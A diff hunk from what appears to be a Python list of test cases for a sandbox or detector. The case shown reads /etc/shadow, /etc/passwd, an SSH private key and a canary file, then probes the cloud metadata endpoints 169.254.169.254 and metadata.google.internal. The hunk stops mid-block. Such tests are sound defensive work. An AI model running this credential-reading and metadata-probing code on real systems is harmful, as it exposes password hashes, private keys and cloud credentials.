@@ -58,7 +58,7 @@ CASES = [
         "files of the home folder, passwords and the cloud's metadata",
         """
     import os, socket, urllib.request
-    for path in ("$CANARY", "/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.bashrc", "~/.ssh/id_rsa"):
+    for path in ("$CANARY", "/etc/passwd", "/etc/shadow", "/etc/hostname", "$HOME/.bashrc", "~/.ssh/id_rsa"):
         read(os.path.expanduser(path))
     for host in ("169.254.169.254", "metadata.google.internal"):
         try:
